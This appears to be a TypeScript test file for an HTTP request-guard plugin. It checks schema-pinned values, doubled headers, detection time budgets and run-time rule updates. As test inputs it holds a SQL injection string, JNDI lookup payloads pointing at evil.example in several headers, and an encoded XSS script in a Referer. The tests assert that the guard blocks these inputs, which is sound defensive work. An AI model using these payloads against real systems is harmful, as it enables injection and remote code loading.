import { test, type TestContext } from 'node:test'
import type { GuardOptions } from '../../lib/index.ts'
import { build, raw, status } from '../helpers.ts'

const SQL = "1' OR '1'='1' -- "
const query = encodeURIComponent(SQL)

test("what the route's schema accepts passes, what it does not is still an attack", async (t: TestContext) => {
  const order = 'name;select 1'
  const schema = { type: 'object', properties: { order: { type: 'string', enum: [order, 'id'] } } } as const
  const { app, events } = await build(t, {}, (app) => {
    app.get('/pinned', { schema: { querystring: schema } }, async () => 'ok')
    app.post('/pinned', { schema: { body: schema } }, async () => 'ok')
    app.get('/free', async () => 'ok')
  })
  t.assert.strictEqual(await status(app, { url: `/free?order=${encodeURIComponent(order)}` }), 400)
  t.assert.strictEqual(events.length, 1)
  t.assert.strictEqual(await status(app, { url: `/pinned?order=${encodeURIComponent(order)}` }), 200)
  t.assert.strictEqual(await status(app, { method: 'POST', url: '/pinned', payload: { order } }), 200)
  t.assert.strictEqual(events.length, 1)
  t.assert.strictEqual(await status(app, { url: `/pinned?order=${query}` }), 400)
  t.assert.strictEqual(await status(app, { method: 'POST', url: '/pinned', payload: { order: SQL } }), 400)
  t.assert.deepStrictEqual(events.map((event) => 'code' in event ? event.code : ''), Array(3).fill('GUARD_ATTACK_DETECTED'), 'refused as attacks, not only as invalid')
})

test('a doubled header that Node drops is judged, too', async (t: TestContext) => {
  const { app } = await build(t, { detection: { exclude: { headers: ['from'] } } })
  await app.listen({ port: 0, host: '127.0.0.1' })
  const send = async (lines: string): Promise<string> => (await raw(app, `GET / HTTP/1.1\r\nHost: a.example\r\n${lines}Connection: close\r\n\r\n`)).slice(9, 12)
  t.assert.strictEqual(await send('User-Agent: kiwi\r\nUser-Agent: plum\r\nAccept: a\r\nAccept: b\r\n'), '200')
  t.assert.strictEqual(await send('User-Agent: kiwi\r\nUser-Agent: ${jndi:ldap://evil.example/a}\r\n'), '400')
  t.assert.strictEqual(await send('Referer: https://a.example/\r\nreferer: https://a.example/?q=%3Cscript%3Ealert(1)%3C/script%3E\r\n'), '400')
  t.assert.strictEqual(await send('X-A: kiwi\r\nX-A: ${jndi:ldap://evil.example/a}\r\n'), '400', 'what Node joins')
  t.assert.strictEqual(await send('From: kiwi\r\nFrom: ${jndi:ldap://evil.example/a}\r\n'), '200', 'excluded')
})

test('budget: a URL with headers that takes longer is refused, or passed where overflow says so', async (t: TestContext) => {
  const slow = (value: string): boolean => {
    const end = performance.now() + 2
    while (performance.now() < end);
    return value === 'never'
  }
  const options = (overflow: 'refuse' | 'pass', budget: number): GuardOptions => ({ detection: { overflow, budget, rules: [{ id: 'own/slow', pattern: slow }] } })
  const url = '/?a=kiwi&b=plum&c=fig'
  const { app, events } = await build(t, options('refuse', 1000))
  t.assert.strictEqual(await status(app, { url }), 400)
  const [event] = events
  t.assert.ok(event !== undefined && 'reason' in event && event.reason === 'judging took longer than detection.budget')
  t.assert.strictEqual(await status((await build(t, options('pass', 1000))).app, { url }), 200)
  t.assert.strictEqual(await status((await build(t, options('refuse', 10_000_000))).app, { url }), 200)
})

test('rules of the application come and go at run time', async (t: TestContext) => {
  const { app } = await build(t, { detection: { level: 1 } }, (app) => { app.get('/own', { config: { guard: { detection: { rules: [{ id: 'own/route', pattern: 'lime' }] } } } }, async () => 'ok') })
  const all = async (url: string): Promise<number[]> => [await status(app, { url: `${url}?q=plum` }), await status(app, { url: `${url}?q=lime` }), await status(app, { url: `${url}?q=${query}` })]
  t.assert.deepStrictEqual(await all('/'), [200, 200, 400])
  t.assert.deepStrictEqual(await all('/own'), [200, 400, 400])
  await app.guard.update({ detection: { rules: [{ id: 'own/plum', pattern: /plum/ }] } })
  t.assert.deepStrictEqual(await all('/'), [400, 200, 400])
  t.assert.strictEqual((await all('/own'))[1], 400)
  const { rules, calls } = app.guard.stats().detection
  t.assert.strictEqual(rules['own/plum']?.matches, (await all('/'))[0] === 400 ? rules['own/plum']?.matches : 0)
  t.assert.ok(calls >= 12 && rules['own/plum']!.matches >= 1 && rules['own/route']!.matches === 2, 'counts outlive an update')
  await app.guard.update({ detection: { rules: [] } })
  t.assert.deepStrictEqual(await all('/'), [200, 200, 400])
  t.assert.throws(() => app.guard.update({ detection: { rules: [{ id: 'own/bad', pattern: /a/g }] } }), /detection\.rules\[0\]\.pattern/)
  t.assert.deepStrictEqual(await all('/'), [200, 200, 400])
  await app.guard.reset()
  t.assert.deepStrictEqual(app.guard.stats().detection, { calls: 0, micros: 0, rules: {} })
})
